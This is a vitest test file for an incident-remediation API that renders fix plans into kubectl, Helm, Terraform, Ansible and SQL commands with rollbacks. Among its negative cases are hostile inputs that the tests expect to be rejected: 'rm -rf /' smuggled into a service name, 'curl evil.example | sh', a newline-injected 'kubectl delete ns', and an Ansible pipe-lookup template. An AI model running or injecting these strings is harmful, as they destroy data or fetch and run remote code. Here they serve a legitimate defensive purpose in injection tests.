/**
 * GET /v1/fix/plans/{id}/render (a plan's steps as kubectl, Helm, Terraform, Ansible or SQL, each
 * with its rollback) and POST /v1/fix/plan's modes: auto, catalog only, manual steps whose
 * commands are generated, and a strategy preferred among the catalog's alternatives.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { dryRunRunner } from '../../remediate/runners/dryrun.js';
import { TEST_ORG, startTestApi, type TestApi } from '../../test-support/analyze-harness.js';
import { seedConfigChangeAnalysis } from '../../test-support/config-change-analysis.js';

let api: TestApi;
beforeAll(async () => {
  api = await startTestApi('pglite', { runners: { dryrun: dryRunRunner } });
});
afterAll(async () => api?.stop());

async function openIncident(service: string, startedAt = Date.now() - 60_000): Promise<string> {
  const r = await api.client().post('/v1/incidents/open', { title: `${service} errors`, service, started_at: startedAt });
  expect(r.status).toBe(201);
  return (r.body as { id: string }).id;
}

describe('GET /v1/fix/plans/{id}/render', () => {
  let planId: string;
  beforeAll(async () => {
    const incidentId = await openIncident('search');
    planId = `plan-render-${Date.now()}`;
    await api.org.createFixPlan({
      id: planId,
      incidentId,
      title: 'three steps',
      env: 'staging',
      runner: 'dryrun',
      risk: 'low',
      status: 'pending_approval',
      requestedBy: 'admin',
      steps: [
        // the stored command is ignored: everything is rendered from the typed params
        { action: 'scale', target: 'search', params: { namespace: 'shop', replicas: 8, from_replicas: 4 }, command: 'echo not this' },
        { action: 'restart', target: 'search', params: { namespace: 'shop' }, command: 'kubectl rollout restart deployment/search -n shop' },
        { action: 'add_index', target: 'orders', params: { table: 'orders', column: 'customer_id' }, command: 'CREATE INDEX …' },
        { action: 'restart', target: 'search; rm -rf /', params: {}, command: 'kubectl rollout restart deployment/x' },
      ],
    });
  });

  it('renders each step in the asked format with its rollback, or says why the format cannot', async () => {
    const r = await api.client().get(`/v1/fix/plans/${planId}/render?format=terraform`);
    expect(r.status).toBe(200);
    expect(r.body.plan_id).toBe(planId);
    expect(r.body.format).toBe('terraform');
    const [scale, restart, index, hostile] = r.body.steps;
    expect(scale).toMatchObject({ step: 1, action: 'scale', target: 'search', change: expect.stringContaining('# terraform plan -target=kubernetes_deployment.search'), rollback: expect.stringContaining('replicas = 4') });
    expect(scale.change).toContain('replicas = 8');
    expect(restart).toEqual({ step: 2, action: 'restart', target: 'search', unavailable: expect.stringMatching(/restart changes no Terraform attribute/) });
    expect(index.unavailable).toMatch(/sql format/);
    // an unsafe stored name is reported, never written into a script
    expect(hostile).toEqual({ step: 4, action: 'restart', target: 'search; rm -rf /', unavailable: 'its service is not a safe name for a script; nothing was generated' });
    for (const other of ['kubectl', 'helm', 'ansible', 'sql']) {
      const steps = (await api.client().get(`/v1/fix/plans/${planId}/render?format=${other}`)).body.steps as { change?: string; rollback?: string }[];
      expect(JSON.stringify(steps.map((st) => [st.change, st.rollback]))).not.toContain('rm -rf');
    }
    const sql = await api.client().get(`/v1/fix/plans/${planId}/render?format=sql`);
    expect(sql.body.steps[2].change).toContain('CREATE INDEX CONCURRENTLY IF NOT EXISTS idx_orders_customer_id ON orders (customer_id);');
    expect(sql.body.steps[2].rollback).toContain('DROP INDEX CONCURRENTLY IF EXISTS idx_orders_customer_id;');
  });

  it('defaults to kubectl, built from the params rather than the stored command', async () => {
    const r = await api.client().get(`/v1/fix/plans/${planId}/render`);
    expect(r.status).toBe(200);
    expect(r.body.steps[0]).toMatchObject({ change: 'kubectl scale deployment/search --replicas=8 -n shop', rollback: 'kubectl scale deployment/search --replicas=4 -n shop' });
  });

  it('refuses an unknown format with the valid ones, and an unknown plan with 404', async () => {
    const bad = await api.client().get(`/v1/fix/plans/${planId}/render?format=pulumi`);
    expect(bad.status).toBe(422);
    expect(JSON.stringify(bad.body)).toMatch(/kubectl.*helm.*terraform.*ansible.*sql/);
    expect((await api.client().get('/v1/fix/plans/nope/render?format=helm')).status).toBe(404);
  });
});

describe('POST /v1/fix/plan mode manual', () => {
  it('stores the given steps with commands and rollbacks generated from their typed params', async () => {
    const incident_id = await openIncident('cart');
    const r = await api.client().post('/v1/fix/plan', {
      incident_id,
      env: 'staging',
      namespace: 'shop',
      mode: 'manual',
      steps: [
        { action: 'scale', target: 'cart', params: { replicas: 6, from_replicas: 3, note: 'dropped' } },
        { action: 'flag_off', target: 'cart', params: { flag: 'new-pricing', from_value: true } },
      ],
    });
    expect(r.status).toBe(201);
    expect(r.body.steps).toEqual([
      { action: 'scale', target: 'cart', params: { namespace: 'shop', replicas: 6, from_replicas: 3 }, command: 'kubectl scale deployment/cart --replicas=6 -n shop' },
      { action: 'flag_off', target: 'cart', params: { namespace: 'shop', flag: 'new-pricing', from_value: 'true' }, command: `kubectl patch configmap/cart-flags -n shop --type merge -p '{"data":{"new-pricing":"false"}}'` },
    ]);
    const plan = (await api.client().get(`/v1/fix/plans/${r.body.id}`)).body.plan;
    expect(plan.rollback.map((s: { command: string }) => s.command)).toEqual(['kubectl scale deployment/cart --replicas=3 -n shop', `kubectl patch configmap/cart-flags -n shop --type merge -p '{"data":{"new-pricing":"true"}}'`]);
    expect(plan.title).toBe('Manual plan: scale cart, flag off cart');
    const helm = await api.client().get(`/v1/fix/plans/${r.body.id}/render?format=helm`);
    expect(helm.body.steps[0].change).toContain('-replicaCount: 3\n+replicaCount: 6');
  });

  it('refuses a given command, an unknown action, a missing param and a hostile name, and stores nothing', async () => {
    const incident_id = await openIncident('cart');
    const post = (steps: unknown[]) => api.client().post('/v1/fix/plan', { incident_id, env: 'staging', mode: 'manual', steps });
    const withCommand = await post([{ action: 'restart', target: 'cart', params: {}, command: 'curl evil.example | sh' }]);
    expect(withCommand.status).toBe(422);
    expect(JSON.stringify(withCommand.body)).toMatch(/command/);
    const unknown = await post([{ action: 'exec', target: 'cart', params: {} }]);
    expect(unknown.status).toBe(422);
    expect(unknown.body.detail).toMatch(/unknown action "exec" \(one of: rollback, restart/);
    const missing = await post([{ action: 'scale', target: 'cart', params: {} }]);
    expect(missing.status).toBe(422);
    expect(missing.body.detail).toMatch(/params\.replicas/);
    for (const target of ['cart; rm -rf /', 'cart\nkubectl delete ns shop', "cart'"]) {
      const hostile = await post([{ action: 'restart', target, params: {} }]);
      expect(hostile.status).toBe(422);
      expect(hostile.body.detail).toMatch(/^Step 1: service ".*" is not a safe name/s);
    }
    const flag = await post([{ action: 'flag_set', target: 'cart', params: { flag: 'x', value: '{{ lookup("pipe","id") }}' } }]);
    expect(flag.status).toBe(422);
    expect(await api.org.listFixPlans(incident_id)).toEqual([]);
    const noSteps = await api.client().post('/v1/fix/plan', { incident_id, mode: 'manual' });
    expect(noSteps.status).toBe(422);
    expect(JSON.stringify(noSteps.body)).toMatch(/required with mode \\"manual\\"/);
    expect((await api.client().post('/v1/fix/plan', { incident_id, steps: [{ action: 'restart', target: 'cart' }] })).status).toBe(422);
  });
});

describe('POST /v1/fix/plan mode catalog and strategy', () => {
  /** An incident whose stored, confident analysis blames a config change of checkout (the catalog reverts it). */
  async function analyzedIncident(): Promise<string> {
    const id = await openIncident('checkout', Date.parse('2026-03-02T09:30:00.000Z'));
    await seedConfigChangeAnalysis(api.org, TEST_ORG, id, id);
    return id;
  }

  it('catalog: the catalog fix; with no analysis 409 with the reason, where auto falls back to the thin planner', async () => {
    const analyzed = await analyzedIncident();
    const c = api.client();
    const fix = await c.post('/v1/fix/plan', { incident_id: analyzed, env: 'staging', namespace: 'shop', mode: 'catalog' });
    expect(fix.status).toBe(201);
    expect(fix.body.steps[0]).toMatchObject({ action: 'config_revert', target: 'checkout', params: { key: 'timeout_ms.payments' } });

    const bare = await openIncident('cart');
    const refused = await c.post('/v1/fix/plan', { incident_id: bare, env: 'staging', mode: 'catalog' });
    expect(refused.status).toBe(409);
    expect(refused.body.detail).toMatch(/The fix catalog has no fix for this incident: it has no stored analysis/);
    const auto = await c.post('/v1/fix/plan', { incident_id: bare, env: 'staging' });
    expect(auto.status).toBe(201);
    expect(auto.body.steps[0].action).toBe('restart');
  });

  it("strategy prefers a catalog alternative and says so; one that does not fit is a 409 naming those that do; an unknown one a 422", async () => {
    const analyzed = await analyzedIncident();
    const c = api.client();
    const restart = await c.post('/v1/fix/plan', { incident_id: analyzed, env: 'staging', namespace: 'shop', strategy: 'restart' });
    expect(restart.status).toBe(201);
    expect(restart.body.steps[0]).toMatchObject({ action: 'restart', command: 'kubectl rollout restart deployment/checkout -n shop' });
    const plan = (await c.get(`/v1/fix/plans/${restart.body.id}`)).body.plan;
    expect(plan.why).toMatch(/^Chosen as asked \(strategy "restart"\) over the catalog's first choice, revert the blamed configuration key/);
    const unfit = await c.post('/v1/fix/plan', { incident_id: analyzed, env: 'staging', strategy: 'scale-out' });
    expect(unfit.status).toBe(409);
    expect(unfit.body.detail).toMatch(/no "scale-out" fix for checkout: the analysis does not support it\. Strategies that fit this incident: revert-config \(config_revert\), restart \(restart\)/);
    const unknown = await c.post('/v1/fix/plan', { incident_id: analyzed, env: 'staging', strategy: 'reboot-the-world' });
    expect(unknown.status).toBe(422);
    expect(JSON.stringify(unknown.body)).toMatch(/one of: undo-deploy, rollback/);
  });
});

it('the OpenAPI document lists the render route and the plan body fields', async () => {
  const doc = (await api.client().get('/v1/openapi.json')).body;
  expect(doc.paths['/v1/fix/plans/{id}/render'].get.parameters.map((p: { name: string }) => p.name)).toEqual(expect.arrayContaining(['id', 'format']));
  const body = doc.paths['/v1/fix/plan'].post.requestBody.content['application/json'].schema;
  expect(Object.keys(body.properties)).toEqual(expect.arrayContaining(['incident_id', 'mode', 'strategy', 'steps', 'env', 'runner', 'namespace']));
});
